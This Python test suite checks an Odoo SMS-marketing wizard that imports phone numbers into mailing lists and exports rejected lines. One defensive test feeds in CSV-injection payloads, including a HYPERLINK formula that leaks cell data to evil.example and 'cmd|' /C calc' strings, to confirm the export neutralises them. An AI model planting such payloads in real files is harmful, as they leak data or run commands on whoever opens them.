# Part of sms_marketing_ext. License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import base64
import codecs
import csv
import io
import itertools
import logging
import time
from unittest.mock import patch

from odoo.exceptions import AccessError, UserError
from odoo.tests import Form, TransactionCase, tagged

from .common import SmsMarketingUsersMixin

_logger = logging.getLogger(__name__)


def french_mobile(index):
    """A valid French mobile number in national format, distinct for each index < 10**8."""
    pairs = (index // 10**6 % 100, index // 10**4 % 100, index // 100 % 100, index % 100)
    return f"0{6 + index // 10**8 % 2} " + " ".join(f"{pair:02d}" for pair in pairs)


@tagged("post_install", "-at_install")
class TestMailingListImport(SmsMarketingUsersMixin, TransactionCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls._create_sms_users()
        cls.mailing_list = cls.env["mailing.list"].create({"name": "SMS import list"})
        cls.fr = cls.env.ref("base.fr")
        cls.be = cls.env.ref("base.be")
        cls.it = cls.env.ref("base.it")
        cls.us = cls.env.ref("base.us")

    def _wizard(self, content, file_name="numbers.csv", country=None, user=None, mailing_list=None):
        if isinstance(content, str):
            content = content.encode()
        mailing_list = mailing_list or self.mailing_list
        env = self.env(user=user or self.user_marketing)
        return (
            env["mailing.list.sms.import"]
            .with_context(active_model="mailing.list", active_id=mailing_list.id)
            .create(
                {
                    "file_data": base64.b64encode(content) if content else False,
                    "file_name": file_name,
                    "country_id": (country or self.fr).id,
                }
            )
        )

    def _counts(self, wizard):
        return {
            name: wizard[name]
            for name in (
                "line_count",
                "new_count",
                "existing_count",
                "duplicate_count",
                "rejected_count",
                "blank_count",
                "blacklisted_count",
            )
        }

    def _list_numbers(self, mailing_list=None):
        mailing_list = mailing_list or self.mailing_list
        subscriptions = self.env["mailing.subscription"].search([("list_id", "=", mailing_list.id)])
        return set(subscriptions.contact_id.mapped("phone_sanitized"))

    def _rejected_rows(self, wizard, delimiter=","):
        attachment = wizard.rejected_attachment_id
        self.assertTrue(attachment)
        self.assertEqual(attachment.mimetype, "text/csv")
        return list(csv.reader(io.StringIO(attachment.raw.decode("utf-8-sig")), delimiter=delimiter))

    # ------------------------------------------------------------------

    def test_default_list_and_binding(self):
        wizard = self._wizard("0612345678\n")
        self.assertEqual(wizard.mailing_list_id, self.mailing_list)
        action = self.env.ref("sms_marketing_ext.mailing_list_sms_import_action")
        self.assertEqual(action.binding_model_id.model, "mailing.list")
        self.assertEqual(action.res_model, "mailing.list.sms.import")
        # the mailing list form offers the import to marketing users
        arch = self.env["mailing.list"].with_user(self.user_marketing).get_views([(False, "form")])
        self.assertIn("Import numbers", arch["views"]["form"]["arch"])
        # the wizard's own form, as the user fills it in
        wizard_model = self.env["mailing.list.sms.import"].with_user(self.user_marketing)
        with Form(wizard_model.with_context(active_model="mailing.list", active_id=self.mailing_list.id)) as form:
            self.assertEqual(form.mailing_list_id, self.mailing_list)
            form.file_data = base64.b64encode(b"06 12 34 56 78\n")
            form.country_id = self.fr
        wizard = form.save()
        wizard.action_preview()
        self.assertEqual((wizard.state, wizard.new_count), ("preview", 1))
        wizard.action_back()
        self.assertEqual(wizard.state, "upload")
        # the default country is the company's
        defaults = self.env["mailing.list.sms.import"].with_user(self.user_marketing).default_get(["country_id"])
        self.assertEqual(defaults.get("country_id", False), self.user_marketing.company_id.country_id.id)

    def test_one_number_per_line(self):
        content = "\n".join(
            [
                "06 12 34 56 78",  # 1 valid
                "+33 6 12 34 56 79",  # 2 valid, international
                "",  # 3 blank
                "hello",  # 4 not a number
                "06 12",  # 5 invalid for France
                "0612345678",  # 6 duplicate of line 1
                "   ",  # 7 blank
                "'07 81 23 45 67'",  # 8 valid, quoted
                "+999 123 456",  # 9 unknown prefix
            ]
        )
        wizard = self._wizard(content, file_name="numbers.txt")
        action = wizard.action_preview()
        self.assertEqual(action["res_id"], wizard.id)
        self.assertEqual(wizard.state, "preview")
        self.assertEqual(
            self._counts(wizard),
            {
                "line_count": 9,
                "new_count": 3,
                "existing_count": 0,
                "duplicate_count": 1,
                "rejected_count": 3,
                "blank_count": 2,
                "blacklisted_count": 0,
            },
        )
        self.assertIn("+33612345678", wizard.preview_html)
        self.assertIn("duplicate of line 1", wizard.preview_html)
        self.assertFalse(self._list_numbers(), "the preview writes nothing")

        result = wizard.action_import()
        self.assertEqual(result["tag"], "display_notification")
        self.assertEqual(
            result["params"]["links"][0]["url"], f"/web/content/{wizard.rejected_attachment_id.id}?download=true"
        )
        self.assertEqual(self._list_numbers(), {"+33612345678", "+33612345679", "+33781234567"})
        self.assertEqual(wizard.created_count, 3)
        self.assertEqual(self.mailing_list.contact_count, 3)

        self.assertEqual(
            self._rejected_rows(wizard),
            [  # no header row, as in the file: its one column, then the line and the reason
                ["hello", "4", "not a phone number"],
                ["06 12", "5", "invalid number for France"],
                ["0612345678", "6", "duplicate of line 1"],
                ["'+999 123 456", "9", "unknown international prefix"],  # no formula (OWASP)
            ],
        )
        self.assertEqual(wizard.rejected_attachment_id.res_model, "mailing.list")
        self.assertEqual(wizard.rejected_attachment_id.res_id, self.mailing_list.id)

    def test_contacts_consistent_for_the_orm(self):
        self.env["phone.blacklist"].create({"number": "+33612340002"})
        wizard = self._wizard("name,phone\nAda,06 12 34 00 01\nBob,06 12 34 00 02\n")
        wizard.action_import()
        contacts = self.env["mailing.contact"].search([("phone_sanitized", "in", ["+33612340001", "+33612340002"])])
        self.assertEqual(len(contacts), 2)
        ada = contacts.filtered(lambda contact: contact.name == "Ada")
        bob = contacts - ada
        self.assertEqual(ada.mobile, "+33612340001")
        self.assertEqual(ada.country_id, self.fr)
        self.assertEqual(ada.message_bounce, 0)
        self.assertEqual(ada.list_ids, self.mailing_list)
        self.assertFalse(ada.phone_sanitized_blacklisted)
        self.assertTrue(bob.phone_sanitized_blacklisted)
        self.assertEqual(wizard.blacklisted_count, 1)
        # what stock would compute again from the stored number is what was stored
        for contact in contacts:
            self.assertEqual(contact._phone_format(fname="mobile"), contact.phone_sanitized)
        # a search through the ORM finds them, and they are subscribed, not opted out
        subscriptions = self.env["mailing.subscription"].search([("contact_id", "in", contacts.ids)])
        self.assertEqual(subscriptions.mapped("opt_out"), [False, False])
        self.assertEqual(subscriptions.list_id, self.mailing_list)

    def test_utf8_bom_semicolon_header(self):
        content = "Numéro;Nom\n06 11 22 33 44;Élodie Dupré\n06 11 22 33 45;Zoë\n".encode("utf-8-sig")
        wizard = self._wizard(content)
        wizard.action_import()
        self.assertEqual(wizard.new_count, 2)
        contacts = self.env["mailing.contact"].search([("phone_sanitized", "in", ["+33611223344", "+33611223345"])])
        self.assertEqual(sorted(contacts.mapped("name")), ["Zoë", "Élodie Dupré"])

    def test_latin1_tab_separated(self):
        content = "nome\tnumero\tpaese\nRenée\t347 123 4567\tIT\n".encode("latin-1")
        wizard = self._wizard(content)
        wizard.action_import()
        contact = self.env["mailing.contact"].search([("phone_sanitized", "=", "+393471234567")])
        self.assertEqual(contact.name, "Renée")
        self.assertEqual(contact.country_id, self.it)

    def test_header_name_country_and_several_countries(self):
        content = (
            "Name,Mobile,Country\n"
            "Anna,0470 12 34 56,BE\n"  # Belgian mobile, ISO code
            "Bart,0470 12 34 57,belgium\n"  # country by name
            "Carla,+39 347 123 4568,\n"  # international, no country
            "Dan,(201) 555-0123,US\n"
            "Eve,0770 12 34 58,\n"  # national without country: read in the default country (France)
            "Fred,0612345678,BE\n"  # a French mobile is no Belgian number
            "Gina,0612345678,XX\n"  # unknown country
        )
        wizard = self._wizard(content)
        wizard.action_preview()
        self.assertEqual(wizard.new_count, 5)
        self.assertEqual(wizard.rejected_count, 2)
        wizard.action_import()
        self.assertEqual(
            self._list_numbers(),
            {"+32470123456", "+32470123457", "+393471234568", "+12015550123", "+33770123458"},
        )
        contacts = self.env["mailing.contact"].search([("phone_sanitized", "in", list(self._list_numbers()))])
        by_name = {contact.name: contact for contact in contacts}
        self.assertEqual(by_name["Anna"].country_id, self.be)
        self.assertEqual(by_name["Bart"].country_id, self.be)
        self.assertFalse(by_name["Carla"].country_id, "no country given and not in the default country")
        self.assertEqual(by_name["Dan"].country_id, self.us)
        self.assertEqual(by_name["Eve"].country_id, self.fr)
        self.assertEqual(
            self._rejected_rows(wizard),
            [
                ["Name", "Mobile", "Country", "line", "reason"],
                ["Fred", "0612345678", "BE", "7", "invalid number for Belgium"],
                ["Gina", "0612345678", "XX", "8", "unknown country “XX”"],
            ],
        )

    def test_no_default_country(self):
        wizard = self._wizard("+33612345601\n0612345602\n")
        wizard.country_id = False
        wizard.action_import()
        self.assertEqual(self._list_numbers(), {"+33612345601"})
        self.assertIn("no international prefix", self._rejected_rows(wizard)[0][2])

    def test_existing_contact_reused(self):
        contact = self.env["mailing.contact"].create({"name": "Known", "mobile": "+33 6 55 44 33 22"})
        self.assertEqual(contact.phone_sanitized, "+33655443322")
        count_before = self.env["mailing.contact"].search_count([])
        wizard = self._wizard("06 55 44 33 22\n06 55 44 33 23\n")
        wizard.action_import()
        self.assertEqual(wizard.created_count, 1)
        self.assertEqual(self.env["mailing.contact"].search_count([]), count_before + 1)
        self.assertEqual(contact.list_ids, self.mailing_list)
        self.assertEqual(contact.name, "Known", "an existing contact is left as it is")

    def test_opted_out_subscription_left_untouched(self):
        contact = self.env["mailing.contact"].create({"name": "Gone", "mobile": "+33655443300"})
        subscription = self.env["mailing.subscription"].create(
            {"contact_id": contact.id, "list_id": self.mailing_list.id, "opt_out": True}
        )
        wizard = self._wizard("06 55 44 33 00\n06 55 44 33 01\n")
        wizard.action_import()
        self.assertEqual(wizard.existing_count, 1)
        self.assertEqual(wizard.new_count, 1)
        self.assertTrue(subscription.opt_out)
        self.assertEqual(self.env["mailing.subscription"].search_count([("contact_id", "=", contact.id)]), 1)
        # importing the same file again adds nothing
        again = self._wizard("06 55 44 33 00\n06 55 44 33 01\n")
        again.action_import()
        self.assertEqual((again.new_count, again.existing_count, again.created_count), (0, 2, 0))
        self.assertFalse(again.rejected_attachment_id)

    def test_blacklisted_number_counted_and_imported(self):
        self.env["phone.blacklist"].create({"number": "+33655440000"})
        wizard = self._wizard("06 55 44 00 00\n06 55 44 00 01\n")
        wizard.action_preview()
        self.assertEqual(wizard.blacklisted_count, 1)
        self.assertIn("blacklisted", wizard.preview_html)
        wizard.action_import()
        self.assertEqual(self._list_numbers(), {"+33655440000", "+33655440001"})

    def test_columns_without_header(self):
        wizard = self._wizard("Alice;06 10 00 00 01\nBob;06 10 00 00 02\n")
        wizard.action_import()
        self.assertEqual(self._list_numbers(), {"+33610000001", "+33610000002"})

    def test_landline_refused(self):
        """Issue 13 §7: a landline is a valid number that cannot receive SMS: refused, and said why."""
        wizard = self._wizard("06 10 00 00 01\n+33 1 42 68 53 00\n")
        wizard.action_import()
        self.assertEqual((wizard.new_count, wizard.rejected_count), (1, 1))
        self.assertEqual(self._list_numbers(), {"+33610000001"})
        rejected = self._rejected_rows(wizard)
        # The rejected-lines file neutralises formulas: a leading "+" gets a quote (issue 11 §6).
        self.assertEqual(rejected, [["'+33 1 42 68 53 00", "2", "not a mobile number: a landline cannot receive SMS"]])

    def test_download_rejected_from_preview(self):
        wizard = self._wizard("06 10 00 00 01\nnope\n")
        wizard.action_preview()
        action = wizard.action_download_rejected()
        self.assertEqual(action["type"], "ir.actions.act_url")
        attachment_id = int(action["url"].split("/")[3].split("?")[0])
        attachment = self.env["ir.attachment"].browse(attachment_id)
        self.assertEqual(attachment.raw.decode("utf-8-sig"), "nope,2,not a phone number\n")

    def test_file_errors(self):
        cases = [
            (False, "Choose a file"),
            (b"", "Choose a file"),
            (b"  \n\n \r\n", "is empty"),
            (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not a text file"),
            (b"PK\x03\x04\x14\x00\x06\x00", "spreadsheet"),
            (b"abc\x00\x01\x02\x03def" * 10, "not a text file"),
            (b"name;city\nJohn;Paris\n", "No column of phone numbers"),
            (b"John,nice\nJane,kind\n", "No column of phone numbers"),
            (b"phone\n", "contains no phone number"),
            (b"0612345678\n" * 1_000_001, "at most 1000000 lines"),
        ]
        for content, message in cases:
            with self.subTest(content=content[:20] if content else content):
                wizard = self._wizard(content)
                with self.assertRaisesRegex(UserError, message):
                    wizard.action_preview()
        self.assertFalse(self._list_numbers())

    def test_rejected_lines_neutralise_formulas(self):
        """An attacker's file: its rejected lines, opened by the marketer in a spreadsheet, run
        nothing (OWASP CSV injection)."""
        content = "\n".join(
            [
                "number;name;country",
                "06 12 34 56 78;Ada;",  # 2 valid
                '=HYPERLINK("http://evil.example/?leak="&A1,"Click me");Eve;',  # 3
                "@SUM(1+1)*cmd|' /C calc'!A0;Eve;",  # 4
                "-2+3+cmd|' /C calc'!A0;Eve;",  # 5
                "+33 6 12 34 56 78;Bob;",  # 6 duplicate of line 2, starts with "+"
                "\t=1+1;Eve;",  # 7 a tab, then a formula
                "06 12 34 56 79;Eve;=cmd",  # 8 unknown country
            ]
        )
        wizard = self._wizard(content)
        wizard.action_import()
        self.assertEqual(self._list_numbers(), {"+33612345678"})
        rows = self._rejected_rows(wizard, delimiter=";")
        self.assertEqual(
            rows,
            [
                ["number", "name", "country", "line", "reason"],
                ['\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "Eve", "", "3", "not a phone number"],
                ["'@SUM(1+1)*cmd|' /C calc'!A0", "Eve", "", "4", "not a phone number"],
                ["'-2+3+cmd|' /C calc'!A0", "Eve", "", "5", "not a phone number"],
                ["'+33 6 12 34 56 78", "Bob", "", "6", "duplicate of line 2"],
                ["'=1+1", "Eve", "", "7", "not a phone number"],
                ["06 12 34 56 79", "Eve", "'=cmd", "8", "unknown country “=cmd”"],
            ],
        )
        for row in rows:
            for cell in row:
                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula cell {cell!r}")

    def test_rejected_lines_keep_columns_and_separator(self):
        """Issue 13 §7: the rejected-lines file keeps every column of the rejected lines, in the
        input's separator, under its header when it has one, then the line and the reason; read
        back by the importer, its cells are the input's, guard apostrophes stripped."""
        from ..tools.sms_number_file import NumberFile

        header = ["Mobile", "Name", "City", "Note"]
        lines = [
            ["06 10 00 00 01", "Ada", "Paris", "ok"],  # 2 valid
            ["+33 1 42 68 53 00", "Bob; the \"boss\"", "Lyon", "=1+1"],  # 3 landline, a separator and quotes
            ["06 10 00 00 01", "Cy, Jr", "Nice", "-x"],  # 4 duplicate of line 2
            ["nope", "Dee\tTab", "", "@x"],  # 5 not a number, a tab inside a cell
            ["06 12", "Eve"],  # 6 invalid, a short line (padded in the output)
        ]
        rejected = lines[1:]  # as written
        for delimiter, with_header, bom in itertools.product((";", ",", "\t"), (True, False), (False, True)):
            with self.subTest(delimiter=delimiter, header=with_header, bom=bom):
                text = io.StringIO()
                writer = csv.writer(text, delimiter=delimiter, lineterminator="\n")
                if with_header:
                    writer.writerow(header)
                writer.writerows(lines)
                content = text.getvalue().encode("utf-8-sig" if bom else "utf-8")
                # The cells as the importer reads them (blanks and surrounding quotes stripped).
                read = [row.cells for row in NumberFile(content)]
                self.assertEqual(len(read), 5)
                mailing_list = self.env["mailing.list"].create({"name": f"Rejected {delimiter!r} {with_header} {bom}"})
                wizard = self._wizard(content, mailing_list=mailing_list)
                wizard.action_import()
                self.assertEqual((wizard.new_count, wizard.rejected_count, wizard.duplicate_count), (1, 3, 1))
                raw = wizard.rejected_attachment_id.raw
                self.assertEqual(raw.count(codecs.BOM_UTF8), 1, "one BOM, at the start, none from the input")
                rows = self._rejected_rows(wizard, delimiter=delimiter)
                offset = 2 if with_header else 1
                reasons = [
                    "not a mobile number: a landline cannot receive SMS",
                    f"duplicate of line {offset}",
                    "not a phone number",
                    "invalid number for France",
                ]
                expected = [
                    [*cells, *[""] * (4 - len(cells)), str(index + offset + 1), reason]
                    for index, (cells, reason) in enumerate(zip(read[1:], reasons, strict=True))
                ]
                formula = ("=", "+", "-", "@")
                guarded = [[("'" + cell) if cell.startswith(formula) else cell for cell in row] for row in expected]
                self.assertEqual(rows, [[*header, "line", "reason"], *guarded] if with_header else guarded)
                # The file imports back as it was: same separator, same header, same cells.
                again = NumberFile(raw)
                self.assertEqual(again.delimiter, delimiter)
                self.assertEqual(again.header, [*header, "line", "reason"] if with_header else None)
                self.assertEqual([row.cells for row in again], expected)
                self.assertEqual([row.number for row in again], [cells[0] for cells in rejected])
                self.assertEqual(expected[0][1], 'Bob; the "boss', "a separator inside a cell stays in it")

    def test_preview_then_import_reads_the_file_once(self):
        """The import after a preview starts from the lines the preview read (no phone parsed again),
        but looks the database up again; a new file or country makes it read the file again."""
        from ..tools import sms_phone

        content = "number;name\n06 10 00 00 01;Ada\n06 10 00 00 02;Bob\nnope;Cy\n06 10 00 00 01;Dup\n"
        wizard = self._wizard(content)
        with patch.object(sms_phone, "normalize_sms", wraps=sms_phone.normalize_sms) as parse:
            wizard.action_preview()
            self.assertEqual(parse.call_count, 3, "one parse per distinct number")
            self.assertTrue(wizard.staged_file)
            self.assertEqual((wizard.new_count, wizard.blacklisted_count), (2, 0))
            # Between the preview and the import, the number of Bob is blacklisted and subscribed.
            self.env["phone.blacklist"].create({"number": "+33610000002"})
            bob = self.env["mailing.contact"].create({"name": "Bob", "mobile": "+33610000002"})
            self.mailing_list.contact_ids = [(4, bob.id)]
            wizard.action_download_rejected()
            wizard.action_import()
            self.assertEqual(parse.call_count, 3, "the import parsed nothing again")
        self.assertEqual(
            self._counts(wizard),
            {
                "line_count": 4,
                "new_count": 1,
                "existing_count": 1,
                "duplicate_count": 1,
                "rejected_count": 1,
                "blank_count": 0,
                "blacklisted_count": 1,
            },
        )
        self.assertEqual(self._list_numbers(), {"+33610000001", "+33610000002"})
        self.assertEqual(
            self._rejected_rows(wizard, delimiter=";"),
            [["number", "name", "line", "reason"], ["nope", "Cy", "4", "not a phone number"],
             ["06 10 00 00 01", "Dup", "5", "duplicate of line 2"]],
        )
        self.assertFalse(wizard.staged_file, "the import drops the staged lines")
        self.env.cr.execute("SELECT count(*) FROM mailing_list_sms_import_staging WHERE wizard_id = %s", [wizard.id])
        self.assertEqual(self.env.cr.fetchone()[0], 0)

        # A new file after the preview: the import reads it, not the staged lines.
        other = self.env["mailing.list"].create({"name": "Other"})
        wizard = self._wizard("06 10 00 00 03\n", mailing_list=other)
        wizard.action_preview()
        wizard.action_back()
        wizard.file_data = base64.b64encode(b"06 10 00 00 04\n06 10 00 00 05\n")
        self.assertFalse(wizard.staged_file)
        wizard.action_import()
        self.assertEqual(self._list_numbers(other), {"+33610000004", "+33610000005"})
        # A new default country too.
        third = self.env["mailing.list"].create({"name": "Third"})
        wizard = self._wizard("0470 12 34 56\n", mailing_list=third)
        wizard.action_preview()
        self.assertEqual(wizard.rejected_count, 1, "not a French number")
        wizard.country_id = self.be
        wizard.action_import()
        self.assertEqual(self._list_numbers(third), {"+32470123456"})

    def test_file_read_in_chunks(self):
        """The file is read from the database in chunks, as b64decode reads the whole value: for
        any chunk size, with line breaks in the base64 text (as base64.encodebytes writes it)."""
        from ..wizard import mailing_list_sms_import as module

        data = "".join(f"{french_mobile(index)};Nom {index} é\n" for index in range(300)).encode()
        for encode in (base64.b64encode, base64.encodebytes):
            wizard = self._wizard(b"x")
            wizard.file_data = encode(data)
            for chunk in (4, 8, 76, 1 << 22):
                with self.subTest(encode=encode.__name__, chunk=chunk), patch.object(module, "FILE_CHUNK", chunk):
                    self.assertEqual(wizard._file_bytes(), data)
        wizard.file_data = base64.b64encode(data)[:-1]  # truncated
        with self.assertRaises(ValueError):
            wizard._file_bytes()

    def test_staged_lines_dropped_with_the_wizard(self):
        wizard = self._wizard("06 10 00 00 01\n")
        wizard.action_preview()
        wizard_id = wizard.id
        wizard.unlink()
        self.env.cr.execute("SELECT count(*) FROM mailing_list_sms_import_staging WHERE wizard_id = %s", [wizard_id])
        self.assertEqual(self.env.cr.fetchone()[0], 0)

    def test_streamed_in_chunks(self):
        """Duplicates, rejected lines and existing contacts are found across the chunks the file is
        streamed in, and the rejected lines come out complete and in file order."""
        from ..wizard import mailing_list_sms_import as module

        existing = self.env["mailing.contact"].create({"name": "Known", "mobile": "+33600000004"})
        lines = []
        for index in range(23):
            if index % 5 == 2:
                lines.append(f"bad {index}")
            elif index % 7 == 6:
                lines.append(french_mobile(index - 5))  # a duplicate of an earlier line (maybe another chunk)
            else:
                lines.append(french_mobile(index))
        content = "\n".join(lines)
        bad = [str(index + 1) for index in range(23) if index % 5 == 2]
        duplicates = [str(index + 1) for index in range(23) if index % 5 != 2 and index % 7 == 6]
        self.assertEqual((len(bad), len(duplicates)), (5, 3))
        with patch.object(module, "SQL_CHUNK", 4), patch.object(module, "FETCH_CHUNK", 3), \
                patch.object(module, "PREVIEW_REJECTED", 2):
            wizard = self._wizard(content)
            wizard.action_preview()
            self.assertIn("and 6 more", wizard.preview_html)
            wizard.action_import()
        rejected = [row[1] for row in self._rejected_rows(wizard)]
        self.assertEqual(rejected, sorted(bad + duplicates, key=int))
        self.assertEqual((wizard.rejected_count, wizard.duplicate_count), (len(bad), len(duplicates)))
        valid = {f"+336{french_mobile(index)[3:].replace(' ', '')}" for index in range(23)
                 if index % 5 != 2 and index % 7 != 6}
        self.assertEqual(self._list_numbers(), valid)
        self.assertEqual(wizard.created_count, len(valid) - 1, "the known contact is reused")
        self.assertIn(existing, self.mailing_list.subscription_ids.contact_id)

    def test_access(self):
        with self.assertRaises(AccessError):
            self._wizard("0612345678\n", user=self.user_employee)
        wizard = self._wizard("0612345678\n", user=self.user_sms_admin)
        wizard.action_import()
        self.assertEqual(self._list_numbers(), {"+33612345678"})

    def test_import_100k_lines_set_based(self):
        count = 100_000
        content = "\n".join(french_mobile(index) for index in range(count)).encode()
        big_list = self.env["mailing.list"].create({"name": "Big SMS list"})
        wizard = self._wizard(content, mailing_list=big_list)
        self.env.flush_all()
        queries_before = self.env.cr.sql_log_count
        started = time.perf_counter()
        wizard.action_import()
        duration = time.perf_counter() - started
        query_count = self.env.cr.sql_log_count - queries_before
        _logger.info("Imported %s numbers in %.2fs with %s queries", count, duration, query_count)
        self.assertLess(query_count, 200)
        self.assertEqual((wizard.new_count, wizard.created_count, wizard.rejected_count), (count, count, 0))
        self.env.cr.execute(
            "SELECT COUNT(DISTINCT c.phone_sanitized) FROM mailing_subscription s "
            "JOIN mailing_contact c ON c.id = s.contact_id WHERE s.list_id = %s",
            [big_list.id],
        )
        self.assertEqual(self.env.cr.fetchone()[0], count)
        self.assertEqual(self.env["mailing.subscription"].search_count([("list_id", "=", big_list.id)]), count)
        last = self.env["mailing.contact"].search([("phone_sanitized", "=", "+33600099999")])
        self.assertEqual(last.list_ids, big_list)
